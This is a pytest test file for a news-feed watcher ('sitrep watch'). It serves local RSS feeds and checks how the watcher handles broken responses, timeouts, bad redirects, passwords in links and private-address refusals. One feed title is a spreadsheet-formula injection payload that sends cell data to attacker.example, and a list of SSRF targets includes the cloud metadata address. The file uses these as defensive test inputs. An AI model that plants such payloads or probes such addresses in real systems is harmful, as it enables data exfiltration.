"""`sitrep watch` against feeds and pages served from 127.0.0.1 by the test: a good feed with an
ETag, a feed that breaks off mid-response, a page that times out, a feed that repeats old items."""

from __future__ import annotations

import html
import sqlite3
import sys
import threading
import time
from contextlib import contextmanager
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.conftest import SEEDS, run_sitrep


def _page(seed) -> bytes:
    """A seed report as a news page: title, paragraphs, navigation and footer around it."""
    first, body = seed.read_text().split("\n", 1)
    title = html.escape(first.split(" ", 2)[-1])
    paragraphs = "".join(f"<p>{html.escape(p)}</p>" for p in body.split("\n") if p.strip())
    return (f"<html><head><title>{title}</title></head><body><nav><a href='/'>Home</a></nav>"
            f"<article><h1>{title}</h1>{paragraphs}</article><footer>Contact us</footer></body></html>").encode()


def _rss(items: list[tuple[str, str, str]], base: str, title: str = "Test Desk", when: str | None = None) -> bytes:
    """RSS 2.0 with (guid, path, title) items, dated 13 Nov 2023; a path with a scheme is a whole link."""
    import datetime as dt

    when = when or format_datetime(dt.datetime(2023, 11, 13, 9, 0, tzinfo=dt.UTC))
    entries = "".join(f"<item><title>{html.escape(t)}</title><link>{html.escape(p if ':' in p else base + p)}</link>"
                      f"<guid>{html.escape(g)}</guid><pubDate>{when}</pubDate></item>" for g, p, t in items)
    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>{html.escape(title)}</title>'
            f"<link>{base}/</link>{entries}</channel></rss>").encode()


# A feed's title an outlet would never choose: a spreadsheet formula, then 300 characters in all.
HOSTILE_TITLE = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click") Desk of '
                 + "Very Long Feed Titles " * 12)[:300]


class _Site:
    """What the server serves, and every request it got (path, If-None-Match)."""

    def __init__(self):
        self.requests: list[tuple[str, str | None]] = []
        self.base = ""

    def count(self, path: str) -> int:
        return sum(1 for p, _ in self.requests if p == path)


SLOW_PAGE_SECONDS = 10  # a page that times out: the tests' timeouts (4 s at most) leave the others room on a busy machine


@contextmanager
def _serving():
    site = _Site()
    pages = {"/a.html": _page(SEEDS[2]), "/b.html": _page(SEEDS[3]), "/c.html": _page(SEEDS[0]),
             "/d.html": _page(SEEDS[1])}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def _send(self, status: int, body: bytes, kind: str, **headers):
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            for k, v in headers.items():
                self.send_header(k.replace("_", "-"), v)
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):
            path = self.path
            site.requests.append((path, self.headers.get("If-None-Match")))
            try:
                if path == "/news.xml":
                    if self.headers.get("If-None-Match") == '"v1"':
                        self.send_response(304)
                        self.end_headers()
                        return
                    body = _rss([("a", "/a.html", "Rockets hit US base"), ("b", "/b.html", "Two US bases attacked")],
                                site.base)
                    self._send(200, body, "application/rss+xml", ETag='"v1"')
                elif path == "/broken.xml":  # promises 5,000 bytes, sends 200, hangs up
                    body = _rss([("x", "/a.html", "x")], site.base)[:200]
                    self.send_response(200)
                    self.send_header("Content-Type", "application/rss+xml")
                    self.send_header("Content-Length", "5000")
                    self.end_headers()
                    self.wfile.write(body)
                    self.wfile.flush()
                    self.connection.shutdown(2)
                elif path == "/repeat.xml":  # the same old items every time; a new one from the 2nd fetch
                    items = [("a-again", "/a.html", "Rockets hit US base"), ("slow", "/slow.html", "Slow page")]
                    if site.count("/repeat.xml") > 1:
                        items.append(("c", "/c.html", "Attack on Ain al-Asad"))
                    self._send(200, _rss(items, site.base), "application/rss+xml")
                elif path == "/hostile.xml":  # links that break a client, redirects off the web, a bad date
                    host = site.base.split("//", 1)[1]
                    items = [("broken-link", "http://[::1", "A link no URL parser takes"),
                             ("to-data", "/to-data", "Redirected to a data: URL"),
                             ("to-mailto", "/to-mailto", "Redirected to a mailto: URL"),
                             ("with-password", f"http://analyst:s3cret-pw@{host}/d.html", "A link with a password")]
                    self._send(200, _rss(items, site.base, HOSTILE_TITLE), "application/rss+xml")
                elif path == "/bad-date.xml":
                    self._send(200, _rss([("dated", "/c.html", "A date nobody wrote")], site.base,
                                         when="Mon, 99 Foo 99999 99:99:99 +9999"), "application/rss+xml")
                elif path == "/many.xml":
                    self._send(200, _rss([("a", "/a.html", "one"), ("b", "/b.html", "two"), ("c", "/c.html", "three")],
                                         site.base), "application/rss+xml", ETag='"many"')
                elif path == "/to-data":
                    self._send(302, b"", "text/plain", Location="data:text/html,<p>Rockets hit the base.</p>")
                elif path == "/to-mailto":
                    self._send(302, b"", "text/plain", Location="mailto:desk@example.org")
                elif path == "/huge.xml":
                    self._send(200, _rss([("huge", "/huge.html", "A page longer than any article")], site.base),
                               "application/rss+xml")
                elif path == "/huge.html":  # 1.5 million characters of report: not an article
                    self._send(200, b"<html><body><article><p>" + SEEDS[2].read_bytes() * 500 + b"</p></article></body></html>",
                               "text/html")
                elif path == "/slow.html":  # slower than any timeout the tests give, however loaded the machine
                    time.sleep(SLOW_PAGE_SECONDS)
                    self._send(200, pages["/a.html"], "text/html")
                elif path in pages:
                    self._send(200, pages[path], "text/html; charset=utf-8")
                else:
                    self._send(404, b"not found", "text/plain")
            except (BrokenPipeError, ConnectionResetError, OSError):
                pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    site.base = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()


def _articles(db) -> list[str]:
    with sqlite3.connect(db) as conn:
        return sorted(r[0] for r in conn.execute("select id from articles"))


def test_watch_rounds_ingest_each_item_once_and_survive_bad_servers(tmp_path):
    db = tmp_path / "watch.db"
    with _serving() as site:
        feeds = tmp_path / "feeds.txt"
        feeds.write_text(f"# desk feeds\n{site.base}/news.xml\n{site.base}/broken.xml\n\n{site.base}/repeat.xml\n")
        result = run_sitrep("watch", feeds, "--db", db, "--every", "1s", "--rounds", "3", "--timeout", "4s", "--allow-private")
        assert result.returncode == 0, result.stderr
        lines = result.stderr.splitlines()
        rounds = [l for l in lines if " round " in l]
        # one line per feed per round, in the order of the file
        assert [l.split(" round ", 1)[1].split(": ", 1)[0] for l in rounds] == [
            f"{n} {site.base}/{f}" for n in (1, 2, 3) for f in ("news.xml", "broken.xml", "repeat.xml")], result.stderr
        by_feed = {f: [l.split(f"/{f}: ", 1)[1] for l in rounds if f"/{f}: " in l]
                   for f in ("news.xml", "broken.xml", "repeat.xml")}
        assert [len(v) for v in by_feed.values()] == [3, 3, 3], result.stderr

        # the good feed: both pages ingested once; then conditional requests answered 304
        assert by_feed["news.xml"][0].startswith("HTTP 200, 2 items: 2 new articles"), by_feed
        assert by_feed["news.xml"][1:] == ["not modified (304)"] * 2
        assert [inm for p, inm in site.requests if p == "/news.xml"] == [None, '"v1"', '"v1"']

        # the broken feed: a one-line failure, then backing off or failing again, never a crash
        assert by_feed["broken.xml"][0].startswith("failed: connection broke off"), by_feed
        assert all(l.startswith(("failed:", "backing off")) for l in by_feed["broken.xml"])

        # the repeating feed: old items counted as seen, the slow page retried then given up
        assert by_feed["repeat.xml"][0].startswith("HTTP 200, 2 items: 0 new articles, 0 seen before, 1 page failed")
        assert by_feed["repeat.xml"][1].startswith("HTTP 200, 3 items: 1 new article, 1 seen before, 1 page failed")
        assert by_feed["repeat.xml"][2].startswith("HTTP 200, 3 items: 0 new articles, 2 seen before, 1 page failed")
        assert site.count("/slow.html") == 3 and site.count("/a.html") == 2  # news, then repeat's own guid
        item_lines = [l for l in lines if "/slow.html: timed out" in l]
        assert len(item_lines) == 3 and item_lines[-1].endswith("giving up")

        # each page is one article, ids are the links; its sentences were extracted
        assert _articles(db) == [f"{site.base}/{p}" for p in ("a.html", "b.html", "c.html")]
        found = run_sitrep("incidents", "--db", db, "--format", "jsonl")
        assert "al-Shaddadi" in found.stdout or "Shaddadi" in found.stdout

        # a restart neither re-ingests nor forgets the backoff or the given-up page
        again = run_sitrep("watch", feeds, "--db", db, "--every", "1s", "--rounds", "1", "--timeout", "4s", "--allow-private")
        assert again.returncode == 0, again.stderr
        assert "/news.xml: not modified (304)" in again.stderr
        assert "/repeat.xml: HTTP 200, 3 items: 0 new articles, 3 seen before, 0 pages failed" in again.stderr
        assert site.count("/slow.html") == 3
        assert _articles(db) == [f"{site.base}/{p}" for p in ("a.html", "b.html", "c.html")]


@pytest.fixture
def watching(tmp_path):
    """A local site, a store, and a watcher over them (every 10 minutes) whose lines are kept."""
    from sitrep.engine import Pipeline
    from sitrep.engine.watch import Watch
    from sitrep.store import open_store

    with _serving() as site:
        store = open_store(str(tmp_path / "w.db"))
        lines: list[str] = []
        watch = Watch(store, Pipeline(lexicon=store.lexicon), every=600, timeout=5, log=lines.append,
                      allow_private=True)
        yield site, store, watch, lines
        watch.close()
        store.close()


def test_a_failing_feed_backs_off_and_the_store_remembers(watching):
    from sitrep.engine.watch import Watch

    site, store, watch, lines = watching
    url = f"{site.base}/broken.xml"
    first = watch.poll(url)
    assert first.startswith("failed: connection broke off") and first.endswith("failure 1, next try in 10m00s")
    assert watch.poll(url).startswith("backing off after 1 failure; next try at")
    restarted = Watch(store, watch.pipeline, every=600, timeout=2, log=lines.append, allow_private=True)
    assert restarted.poll(url).startswith("backing off")
    assert site.count("/broken.xml") == 1
    missing = watch.poll(f"{site.base}/nowhere.xml")
    assert missing == "failed: HTTP 404; failure 1, next try in 10m00s"
    restarted.close()


def test_a_page_too_long_to_be_an_article_is_given_up_once(watching):
    site, store, watch, lines = watching
    url = f"{site.base}/huge.xml"
    assert watch.poll(url).endswith("1 items: 0 new articles, 0 seen before, 1 page failed")
    assert lines[0].endswith("characters; an article may have up to 1,000,000); giving up"), lines
    assert watch.poll(url).endswith("1 items: 0 new articles, 1 seen before, 0 pages failed")
    assert site.count("/huge.html") == 1 and store.counts()["articles"] == 0


def test_every_takes_durations():
    from sitrep.engine.watch import parse_every

    assert [parse_every(x) for x in ("90s", "10m", "1h30m", "45")] == [90, 600, 5400, 45]
    with pytest.raises(ValueError):
        parse_every("ten minutes")
    assert run_sitrep("watch", sys.executable, "--every", "soon").returncode == 2


def test_no_feed_or_item_stops_the_watch(tmp_path, postgres_server):
    """Links no URL parser takes, redirects to data: and mailto:, a malformed date, a password in a
    link and a 300-character title that starts like a formula: each is that feed's or that item's
    business; the good feed after them is read in the same round. On PostgreSQL, whose columns
    are bounded."""
    db = postgres_server()
    with _serving() as site:
        feeds = tmp_path / "feeds.txt"
        feeds.write_text(f"{site.base}/hostile.xml\n{site.base}/bad-date.xml\n{site.base}/news.xml\n")
        done = run_sitrep("watch", feeds, "--db", db, "--every", "1s", "--rounds", "3", "--timeout", "2s",
                          "--allow-private")
        assert done.returncode == 0, done.stderr
        assert "Traceback" not in done.stderr and "s3cret-pw" not in done.stderr
        rounds = [line.split(" round ", 1)[1] for line in done.stderr.splitlines() if " round " in line]
        assert len(rounds) == 9, done.stderr
        assert rounds[0] == (f"1 {site.base}/hostile.xml: HTTP 200, 4 items: 1 new article, 0 seen before, "
                             f"3 pages failed"), done.stderr
        assert rounds[1].startswith(f"1 {site.base}/bad-date.xml: HTTP 200, 1 items: 1 new article")
        assert rounds[2].startswith(f"1 {site.base}/news.xml: HTTP 200, 2 items: 2 new articles")
        items = [line.split("   item ", 1)[1] for line in done.stderr.splitlines() if "   item " in line]
        assert any(line.startswith("http://[::1: InvalidURL: ") and line.endswith("; will retry") for line in items)
        assert f"{site.base}/to-data: refused: a redirect off the web, to data:text/html,<p>Rockets hit the " \
               "base.</p>; will retry" in items
        assert f"{site.base}/to-mailto: refused: a redirect off the web, to mailto:desk@example.org; will retry" in items
        assert sum(line.endswith("giving up") for line in items) == 3  # the third round gives up on each
        assert rounds[6].startswith(f"3 {site.base}/hostile.xml: HTTP 200, 4 items: 0 new articles, 1 seen before, "
                                    "3 pages failed")

    from sqlalchemy import text

    from sitrep.store import open_store

    store = open_store(db)
    with store.engine.connect() as conn:
        stored = conn.execute(text("select a.id, a.url, a.source_file, o.name from articles a "
                                   "left join outlets o on o.id = a.outlet_id order by a.id")).all()
        keys = [r[0] for r in conn.execute(text("select item from feed_items"))]
    store.close()
    # d.html by its link without the password, c.html whatever its feed's date, a.html and b.html
    assert [r[0] for r in stored] == [f"{site.base}/{page}" for page in ("a.html", "b.html", "c.html", "d.html")]
    assert not any("s3cret-pw" in str(cell) for row in stored for cell in row) and "s3cret-pw" not in str(keys)
    outlets = {r[3] for r in stored}
    assert HOSTILE_TITLE[:199] + "\u2026" in outlets  # the 300-character title, cut to the column


def test_loopback_and_private_addresses_are_refused_without_allow_private(tmp_path):
    from sitrep.sources.feeds import Fetcher

    with _serving() as site:
        port = site.base.rsplit(":", 1)[1]
        feeds = tmp_path / "feeds.txt"
        feeds.write_text(f"{site.base}/news.xml\n")
        done = run_sitrep("watch", feeds, "--db", tmp_path / "w.db", "--rounds", "1", "--timeout", "2s")
        assert done.returncode == 0, done.stderr
        assert (f"{site.base}/news.xml: failed: ConnectError: refused: 127.0.0.1 is a loopback address "
                "(sitrep watch --allow-private reaches it); failure 1") in done.stderr
        assert site.requests == []
        guarded = Fetcher(2.0)
        for url, why in ((f"http://localhost:{port}/news.xml", "is a loopback address"),
                         (f"http://[::ffff:127.0.0.1]:{port}/news.xml", "127.0.0.1 is a loopback address"),
                         (f"http://0.0.0.0:{port}/", "is an unspecified address"),
                         ("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"),
                         ("http://[fe80::1]/", "fe80::1 is a link-local address"),
                         ("http://10.1.2.3/", "10.1.2.3 is a private address"),
                         ("http://192.168.0.1/", "192.168.0.1 is a private address")):
            with pytest.raises(Exception) as refused:
                guarded.get(url, {}, 1000)
            assert "refused: " in str(refused.value) and why in str(refused.value), (url, refused.value)
        guarded.close()
        assert site.requests == []


def test_at_most_max_items_a_round_and_the_rest_wait(watching):
    site, store, watch, lines = watching
    watch.max_items = 2
    url = f"{site.base}/many.xml"
    assert watch.poll(url) == ("HTTP 200, 3 items: 2 new articles, 0 seen before, 0 pages failed, "
                               "1 left for the next round")
    assert watch.poll(url) == "HTTP 200, 3 items: 1 new article, 2 seen before, 0 pages failed"
    assert watch.poll(url) == "HTTP 200, 3 items: 0 new articles, 3 seen before, 0 pages failed"
    # the feed's ETag is sent only once nothing waits: a 304 must not hide waiting items
    assert [inm for p, inm in site.requests if p == "/many.xml"] == [None, None, '"many"']
    assert store.counts()["articles"] == 3
